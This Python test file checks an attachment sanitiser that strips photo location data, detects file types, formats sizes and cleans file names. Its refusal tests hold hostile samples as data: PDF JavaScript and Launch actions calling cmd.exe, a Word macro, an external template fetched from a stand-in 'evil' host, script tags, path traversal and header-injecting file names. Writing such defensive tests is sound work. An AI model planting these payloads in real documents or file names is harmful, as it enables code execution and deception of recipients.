"""What a case takes as a file, by its content, and what is left of it."""

from contextlib import suppress
from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from evalsys.cases.papers.rules import BadAttachment, Media, clean_file, shown_name, size_words
from tests.cases.papers.files import (
    GPS,
    ORIENTATION,
    PLACE,
    TURNED,
    docx,
    jpeg,
    packed_pdf,
    pdf,
    png,
)

HONEST = (pdf(), jpeg(), png(), docx())
OUTSIDE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("body", "media"),
    [(pdf(), Media.PDF), (jpeg(), Media.JPEG), (png(), Media.PNG), (docx(), Media.DOCX)],
)
def test_scans_photos_and_documents_are_taken(body: bytes, media: Media) -> None:
    assert clean_file("x", body).media is media


def test_a_photo_loses_its_place_and_keeps_its_pixels_and_how_it_is_turned() -> None:
    before, after = jpeg(), clean_file("x", jpeg() + b"\xff\xd8" + PLACE).body
    assert PLACE in before
    assert PLACE not in after
    assert b"by PLACE" not in after
    exif = Image.open(BytesIO(after)).getexif()
    assert not exif.get_ifd(GPS)
    assert exif[ORIENTATION] == TURNED
    pixels = [Image.open(BytesIO(one)).tobytes() for one in (before, after)]
    assert pixels[0] == pixels[1]


def test_a_screenshot_loses_its_texts() -> None:
    after = clean_file("x", png() + PLACE).body
    assert PLACE not in after
    assert Image.open(BytesIO(after)).size == (8, 8)


@pytest.mark.parametrize(
    "body",
    [
        pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        pdf(b"/OpenAction << /S /J#61vaScript /J#53 (1) >>"),
        pdf(b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"),
        pdf(b"/Names << /EmbeddedFiles 5 0 R >>"),
        packed_pdf(b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"),
        pdf(b"/Encrypt 5 0 R"),
        pdf()[:-8],
        packed_pdf(b"\x00" * (60 * 1024 * 1024)),
        docx(word_vbaProject__bin=b"macro"),
        docx(word_embeddings_a__xlsx=b"PK"),
        docx(word__rels_more__rels=OUTSIDE.replace(b"__", b"_")),
        docx(word_a__rels=OUTSIDE),
        docx(word_a__rels=b"<!DOCTYPE x [<!ENTITY a 'b'>]>"),
        jpeg()[:-40],
        png()[:-6],
        png().replace(b"IDAT", b"IDAX"),
        b"PK\x03\x04 no zip",
        b"<html><script>alert(1)</script>",
        b"GIF89a",
        b"MZ\x90\x00",
        b"%!PS",
        b"",
    ],
)
def test_what_acts_by_itself_or_is_something_else_is_refused(body: bytes) -> None:
    with pytest.raises(BadAttachment):
        clean_file("scan.pdf", body)


def test_a_page_with_a_link_may_be_attached() -> None:
    link = OUTSIDE.replace(b"attachedTemplate", b"hyperlink")
    assert clean_file("x", docx(word_a__rels=link)).media is Media.DOCX


@given(st.integers(0, len(HONEST) - 1), st.integers(0), st.binary(max_size=8), st.integers(0, 9))
def test_torn_and_changed_files_are_refused_or_cleaned_and_never_break(
    which: int, at: int, put_in: bytes, left_out: int
) -> None:
    body = HONEST[which]
    at %= len(body)
    with suppress(BadAttachment):
        clean_file("x", body[:at] + put_in + body[at + left_out :])


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("笔录.PDF", "笔录.pdf"),
        ("C:\\Users\\zhou\\情况说明.exe", "情况说明.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("a\u202egpj.exe", "agpj.pdf"),
        ('x"; filename=evil.html\r\n', "x_; filename=evil.pdf"),
        ("", "file.pdf"),
        ("长" * 300, "长" * 94 + ".pdf"),
    ],
)
def test_a_name_says_what_the_file_is_and_hides_nothing(name: str, shown: str) -> None:
    assert shown_name(name, Media.PDF) == shown


def test_a_size_is_written_as_people_read_it() -> None:
    assert [size_words(n) for n in (1, 120_000, 1_500_000)] == ["1 KB", "117 KB", "1.4 MB"]


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"", "empty"),
        (b"\0" * 100, "empty"),
        (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "most compatible format"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "Save it as .docx"),
        (b"GIF89a", "PDF, JPEG, PNG and Word"),
    ],
)
def test_a_file_that_people_often_send_is_refused_with_its_way_out(body: bytes, words: str) -> None:
    with pytest.raises(BadAttachment) as refused:
        clean_file("a.pdf", body)
    assert words in str(refused.value)
